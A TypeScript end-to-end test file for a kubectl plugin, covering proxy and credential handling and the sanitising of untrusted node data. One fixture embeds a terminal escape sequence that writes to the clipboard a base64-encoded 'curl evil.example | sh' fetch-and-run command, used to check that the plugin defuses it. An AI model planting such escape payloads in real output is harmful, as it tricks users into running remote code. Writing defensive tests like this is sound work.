// The plugin's own side against the real test cluster: API access as kubectl
// does it (proxies, relative credential paths, exec plugins, blocked ports),
// cluster data treated as untrusted, credentials kept off the command line.

import {spawn} from 'node:child_process';
import {createServer as createHttpServer, request as httpRequest} from 'node:http';
import {chmod, mkdir, mkdtemp, readFile, writeFile} from 'node:fs/promises';
import {type AddressInfo, connect, createServer, type Server} from 'node:net';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterAll, describe, expect, it} from 'vitest';
import {parse, parseAllDocuments, stringify} from 'yaml';
import {useCluster} from '../cluster/fixture.ts';
import {pluginPath, runPlugin, type PluginResult} from './plugin.ts';
import {startConnectProxy} from './setup/connect-proxy.ts';
import {haveTmux, startTmux} from './tmux.ts';

type Kubeconfig = {
	clusters: {name: string; cluster: Record<string, unknown>}[];
	users: {name: string; user: Record<string, unknown>}[];
	contexts: {name: string; context: {cluster: string; user: string}}[];
	'current-context': string;
};

/** A name only the test proxy resolves: a request that reaches the API server under it went through the proxy. */
const proxiedHost = 'apiserver.proxied.test';

async function folder(): Promise<string> {
	return mkdtemp(join(tmpdir(), 'api-access-'));
}

/** A copy of a kubeconfig with one change, in its own folder (relative paths are relative to it). */
async function variant(path: string, change: (config: Kubeconfig, dir: string) => Promise<void> | void): Promise<string> {
	const config = parse(await readFile(path, 'utf8')) as Kubeconfig;
	const dir = await folder();
	await change(config, dir);
	const file = join(dir, 'config');
	await writeFile(file, stringify(config));
	return file;
}

/** The server URL with another host or port. */
function moved(server: string, change: {host?: string; port?: number}): string {
	const url = new URL(server);
	if (change.host !== undefined) {
		url.hostname = change.host;
	}

	if (change.port !== undefined) {
		url.port = String(change.port);
	}

	return url.toString().replace(/\/$/, '');
}

/** The plugin with `input` on its standard input. */
function runWithInput(args: readonly string[], input: string, env: NodeJS.ProcessEnv = {}): Promise<PluginResult> {
	const child = spawn(pluginPath, [...args], {env: {...process.env, KUBECONFIG: '', ...env}, stdio: ['pipe', 'pipe', 'pipe']});
	let stdout = '';
	let stderr = '';
	child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
		stdout += chunk;
	});
	child.stderr.setEncoding('utf8').on('data', (chunk: string) => {
		stderr += chunk;
	});
	child.stdin.end(input);
	return new Promise((resolve, reject) => {
		child.on('error', reject);
		child.on('close', code => resolve({stdout, stderr, code: code ?? 128}));
	});
}

/** Forwards a loopback port that fetch refuses (6666, 6000, 10080) to the API server. */
async function forwardFromBlockedPort(target: number): Promise<{port: number; server: Server}> {
	for (const port of [6666, 6000, 10_080, 6665, 6667]) {
		const server = createServer(client => {
			const upstream = connect(target, '127.0.0.1');
			client.pipe(upstream).pipe(client);
			client.on('error', () => upstream.destroy());
			upstream.on('error', () => client.destroy());
		});
		const bound = await new Promise<boolean>(resolve => {
			server.once('error', () => resolve(false));
			server.listen(port, '127.0.0.1', () => resolve(true));
		});
		if (bound) {
			return {port: (server.address() as AddressInfo).port, server};
		}
	}

	throw new Error('every blocked port is taken on this machine');
}

const tmuxFound = await haveTmux();

const hostile = {
	runtime: 'containerd://1.7.24\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001B[2J',
	address: '*',
};

describe('API access as kubectl does it, and cluster data as untrusted', () => {
	const cluster = useCluster({name: 'e2e-api-access', containerd: 2});
	const closers: (() => Promise<unknown>)[] = [];
	afterAll(async () => {
		await Promise.all(closers.map(close => close()));
	});

	async function serverOf(): Promise<string> {
		const config = parse(await readFile(cluster().kubeconfig, 'utf8')) as Kubeconfig;
		return config.clusters[0]!.cluster['server'] as string;
	}

	/** The admin kubeconfig addressing the API server by a name only the test proxy resolves. */
	function viaProxiedHost(proxyUrl?: string): Promise<string> {
		return variant(cluster().kubeconfig, config => {
			const entry = config.clusters[0]!.cluster;
			entry['tls-server-name'] = 'localhost';
			entry['server'] = moved(entry['server'] as string, {host: proxiedHost});
			if (proxyUrl !== undefined) {
				entry['proxy-url'] = proxyUrl;
			}
		});
	}

	/** The restricted user's token and kubeconfig, for variants that pass the token another way. */
	async function restrictedUser(): Promise<{token: string; kubeconfig: string; server: string}> {
		const kubeconfig = await cluster().restrictedKubeconfig();
		const config = parse(await readFile(kubeconfig, 'utf8')) as Kubeconfig;
		return {token: config.users[0]!.user['token'] as string, kubeconfig, server: config.clusters[0]!.cluster['server'] as string};
	}

	it('goes through the kubeconfig\'s proxy-url to a server name only the proxy resolves', async () => {
		const proxy = await startConnectProxy({hosts: {[proxiedHost]: '127.0.0.1'}});
		closers.push(proxy.close);
		const kubeconfig = await viaProxiedHost(proxy.url);
		const result = await runPlugin(kubeconfig, ['status', '-o', 'json']);
		expect(result.code, result.stderr).toBe(0);
		expect(JSON.parse(result.stdout)).toHaveLength(2);
		expect(proxy.tunnels.every(target => target.startsWith(`${proxiedHost}:`))).toBe(true);
		expect(proxy.tunnels.length).toBeGreaterThan(0);
	});

	it('honours HTTPS_PROXY and NO_PROXY from the environment, as kubectl does', async () => {
		const proxy = await startConnectProxy({hosts: {[proxiedHost]: '127.0.0.1'}});
		closers.push(proxy.close);
		const kubeconfig = await viaProxiedHost();
		const through = await runPlugin(kubeconfig, ['status', '-o', 'json'], {HTTPS_PROXY: proxy.url, NO_PROXY: 'localhost'});
		expect(through.code, through.stderr).toBe(0);
		expect(proxy.tunnels.length).toBeGreaterThan(0);

		const tunnels = proxy.tunnels.length;
		const bypassed = await runPlugin(kubeconfig, ['status', '-o', 'json'], {HTTPS_PROXY: proxy.url, NO_PROXY: '.proxied.test'});
		// Without the proxy the name does not resolve.
		expect(bypassed.code).toBe(1);
		expect(bypassed.stderr).toMatch(/cannot reach|ENOTFOUND|resolve/);
		expect(proxy.tunnels.length).toBe(tunnels);
	});

	it('a proxy that refuses the tunnel gives a clear error', async () => {
		const proxy = await startConnectProxy({refuseWith: 403});
		closers.push(proxy.close);
		const kubeconfig = await variant(cluster().kubeconfig, config => {
			config.clusters[0]!.cluster['proxy-url'] = proxy.url;
		});
		const result = await runPlugin(kubeconfig, ['status']);
		expect(result.code).toBe(1);
		expect(result.stderr).toMatch(/^error: list nodes: the proxy refused the tunnel to context "[^"]+" \(https:\/\/127\.0\.0\.1:\d+\) \(HTTP 403 to CONNECT\)/);
		expect(result.stderr).not.toContain('startsWith');
	});

	it('reaches an API server on a port that fetch refuses', async () => {
		const target = Number(new URL(await serverOf()).port);
		const forward = await forwardFromBlockedPort(target);
		closers.push(() => new Promise(resolve => {
			forward.server.close(resolve);
		}));
		const kubeconfig = await variant(cluster().kubeconfig, config => {
			const entry = config.clusters[0]!.cluster;
			entry['server'] = moved(entry['server'] as string, {port: forward.port});
		});
		const result = await runPlugin(kubeconfig, ['status', '-o', 'json']);
		expect(result.code, result.stderr).toBe(0);
		expect(JSON.parse(result.stdout)).toHaveLength(2);
	});

	it('sends no credentials to a plain http:// server (kubectl proxy behind a recording forwarder)', async () => {
		const proxy = spawn(cluster().binaries.kubectl, ['--kubeconfig', cluster().kubeconfig, 'proxy', '--port=0'], {stdio: ['ignore', 'pipe', 'pipe']});
		closers.push(async () => proxy.kill());
		const proxyPort = await new Promise<number>((resolve, reject) => {
			proxy.stdout.setEncoding('utf8').on('data', (text: string) => {
				const port = /Starting to serve on 127\.0\.0\.1:(\d+)/.exec(text)?.[1];
				if (port) {
					resolve(Number(port));
				}
			});
			proxy.on('exit', code => reject(new Error(`kubectl proxy exited with ${code}`)));
		});
		const seen: string[] = [];
		const forwarder = createHttpServer((request, response) => {
			seen.push(JSON.stringify(request.headers));
			const upstream = httpRequest({host: '127.0.0.1', port: proxyPort, path: request.url, method: request.method, headers: request.headers}, answer => {
				response.writeHead(answer.statusCode ?? 502, answer.headers);
				answer.pipe(response);
			});
			upstream.on('error', () => response.destroy());
			request.pipe(upstream);
		});
		await new Promise<void>(resolve => {
			forwarder.listen(0, '127.0.0.1', resolve);
		});
		closers.push(() => new Promise(resolve => {
			forwarder.close(resolve);
		}));
		const {port} = forwarder.address() as AddressInfo;
		const kubeconfig = await variant(cluster().kubeconfig, config => {
			config.clusters[0]!.cluster = {server: `http://127.0.0.1:${port}`};
			config.users[0]!.user = {token: 'never-over-plain-http', username: 'admin', password: 'also-never'};
		});
		const result = await runPlugin(kubeconfig, ['status', '-o', 'json']);
		expect(result.code, result.stderr).toBe(0);
		expect(seen.length).toBeGreaterThan(0);
		expect(seen.join('\n')).not.toMatch(/authorization|never-over-plain-http|also-never/i);
	});

	it('reads a token-file given by a path relative to the kubeconfig', async () => {
		const {token, kubeconfig: restricted} = await restrictedUser();
		const kubeconfig = await variant(restricted, async (config, dir) => {
			await mkdir(join(dir, 'tokens'));
			await writeFile(join(dir, 'tokens', 'viewer'), `${token}\n`);
			delete config.users[0]!.user['token'];
			config.users[0]!.user['token-file'] = 'tokens/viewer';
		});
		const result = await runPlugin(kubeconfig, ['status', '-o', 'json']);
		expect(result.code, result.stderr).toBe(0);
	});

	it('runs an exec plugin given by a relative path: KUBERNETES_EXEC_INFO set, its stderr shown', async () => {
		const {token, kubeconfig: restricted, server} = await restrictedUser();
		let infoFile = '';
		const kubeconfig = await variant(restricted, async (config, dir) => {
			infoFile = join(dir, 'exec-info.json');
			await mkdir(join(dir, 'bin'));
			const plugin = join(dir, 'bin', 'credential');
			await writeFile(plugin, [
				`#!${process.execPath}`,
				`require('node:fs').writeFileSync(${JSON.stringify(infoFile)}, process.env.KUBERNETES_EXEC_INFO);`,
				'console.error("credential plugin: using the cached login");',
				`console.log(JSON.stringify({apiVersion: 'client.authentication.k8s.io/v1', kind: 'ExecCredential', status: {token: ${JSON.stringify(token)}}}));`,
				'',
			].join('\n'));
			await chmod(plugin, 0o755);
			delete config.users[0]!.user['token'];
			config.users[0]!.user['exec'] = {apiVersion: 'client.authentication.k8s.io/v1', command: './bin/credential', interactiveMode: 'IfAvailable', provideClusterInfo: true};
		});
		const result = await runPlugin(kubeconfig, ['status', '-o', 'json']);
		expect(result.code, result.stderr).toBe(0);
		expect(result.stderr).toContain('credential plugin: using the cached login');
		const info = JSON.parse(await readFile(infoFile, 'utf8')) as {spec: {interactive: boolean; cluster: {server: string}}};
		expect(info.spec.interactive).toBe(false);
		expect(info.spec.cluster.server).toBe(server);
	});

	it.skipIf(!tmuxFound)('gives an interactive exec plugin the terminal: it can prompt and read the answer', async () => {
		const {token, kubeconfig: restricted} = await restrictedUser();
		const kubeconfig = await variant(restricted, async (config, dir) => {
			const plugin = join(dir, 'login');
			await writeFile(plugin, [
				`#!${process.execPath}`,
				'const info = JSON.parse(process.env.KUBERNETES_EXEC_INFO);',
				'if (!info.spec.interactive) { console.error("not interactive"); process.exit(2); }',
				'const prompt = require("node:readline").createInterface({input: process.stdin, output: process.stderr});',
				'prompt.question("one-time code: ", code => {',
				'  prompt.close();',
				'  if (code.trim() !== "424242") { console.error("wrong code"); process.exit(1); }',
				`  console.log(JSON.stringify({apiVersion: 'client.authentication.k8s.io/v1', kind: 'ExecCredential', status: {token: ${JSON.stringify(token)}}}));`,
				'});',
				'',
			].join('\n'));
			await chmod(plugin, 0o755);
			delete config.users[0]!.user['token'];
			config.users[0]!.user['exec'] = {apiVersion: 'client.authentication.k8s.io/v1', command: './login', interactiveMode: 'IfAvailable'};
		});
		const terminal = await startTmux({width: 120, height: 30, command: [pluginPath, 'status', '--kubeconfig', kubeconfig]});
		try {
			await terminal.waitForScreen('one-time code:');
			for (const key of [...'424242', 'Enter']) {
				await terminal.press(key);
			}

			await terminal.waitForScreen(/NAME +READY/);
			expect(await terminal.waitForExit()).toBe(0);
		} finally {
			await terminal.kill();
		}
	});

	it('--proxy-env-file - reads the credentials from standard input; the password is in the Secret document only', async () => {
		const password = 'pa55-w0rd!';
		const input = `# corporate proxy\nexport HTTPS_PROXY="http://builder:${password}@proxy.corp:3128"\nno_proxy=.corp.example\n`;
		const result = await runWithInput(['apply', '--proxy-env-file', '-', '--dry-run', '-o', 'yaml', '--kubeconfig', cluster().kubeconfig], input);
		expect(result.code, result.stderr).toBe(0);
		const documents = parseAllDocuments(result.stdout).map(document => document.toJS() as {kind: string; data?: Record<string, string>});
		expect(documents.map(document => document.kind).sort()).toEqual(['ConfigMap', 'DaemonSet', 'Secret']);
		for (const document of documents) {
			const text = JSON.stringify(document);
			const decoded = Object.values(document.data ?? {}).map(value => Buffer.from(value, 'base64').toString('utf8')).join('\n');
			if (document.kind === 'Secret') {
				expect(decoded).toContain(password);
			} else {
				expect(text).not.toContain(password);
				expect(text).not.toContain('builder');
			}
		}

		expect(result.stdout).toContain('.corp.example');
		expect(result.stderr).not.toContain(password);
	});

	describe('a node with hostile status fields', () => {
		it('is created with escape sequences in its runtime version and * as its address', async () => {
			const node = {
				apiVersion: 'v1',
				kind: 'Node',
				metadata: {name: 'hostile', labels: {'kubernetes.io/os': 'linux', 'kubernetes.io/arch': 'amd64'}},
				status: {
					addresses: [{type: 'InternalIP', address: hostile.address}, {type: 'InternalIP', address: '10.9.9.9'}],
					nodeInfo: {architecture: 'amd64', operatingSystem: 'linux', containerRuntimeVersion: hostile.runtime, kubeletVersion: 'v1.35.4', kubeProxyVersion: '', kernelVersion: '6.1', osImage: 'x', machineID: 'x', systemUUID: 'x', bootID: 'x'},
				},
			};
			const created = await cluster().kubectl(['create', '-f', '-'], {input: JSON.stringify(node)});
			expect(created.code, created.stderr).toBe(0);
			const read = await cluster().kubectl(['get', 'node', 'hostile', '-o', 'json']);
			const stored = JSON.parse(read.stdout) as {status: {addresses: {address: string}[]; nodeInfo: {containerRuntimeVersion: string}}};
			expect(stored.status.nodeInfo.containerRuntimeVersion).toBe(hostile.runtime);
			expect(stored.status.addresses[0]!.address).toBe('*');
		});

		it('status spells the escape sequences out instead of sending them to the terminal', async () => {
			const table = await runPlugin(cluster().kubeconfig, ['status']);
			expect(table.code, table.stderr).toBe(0);
			expect(table.stdout).toContain('\\x1b]52;c;');
			expect(table.stdout).not.toMatch(/[\u0007\u001B\u009B]/u);
			const json = await runPlugin(cluster().kubeconfig, ['status', '-o', 'json']);
			expect(json.stdout).not.toMatch(/[\u0007\u001B\u009B]/u);
			expect((JSON.parse(json.stdout) as {name: string; runtimeVersion: string}[]).find(node => node.name === 'hostile')?.runtimeVersion).toBe(hostile.runtime);
		});

		it('its * address stays out of NO_PROXY, and the plan names the node and the value', async () => {
			const dryRun = await runPlugin(cluster().kubeconfig, ['apply', '--https-proxy', 'http://proxy.corp:3128', '--dry-run', '-o', 'json']);
			expect(dryRun.code, dryRun.stderr).toBe(0);
			const configMap = (JSON.parse(dryRun.stdout) as {items?: {kind: string; data?: Record<string, string>}[]} | {kind: string; data?: Record<string, string>}[]);
			const items = Array.isArray(configMap) ? configMap : configMap.items ?? [];
			const settings = JSON.parse(items.find(item => item.kind === 'ConfigMap')!.data!['settings.json']!) as {noProxy: string[]};
			expect(settings.noProxy).not.toContain('*');
			expect(settings.noProxy).toContain('10.9.9.9');

			const applied = await runPlugin(cluster().kubeconfig, ['apply', '--https-proxy', 'http://proxy.corp:3128', '--nodes', 'containerd-1', '--yes']);
			expect(applied.stdout).toContain('warning: node hostile: InternalIP "*" left out of NO_PROXY');
			expect(applied.stdout).not.toMatch(/[\u0007\u001B]/u);
			expect(applied.code, applied.stdout + applied.stderr).toBe(0);
		});
	});
});
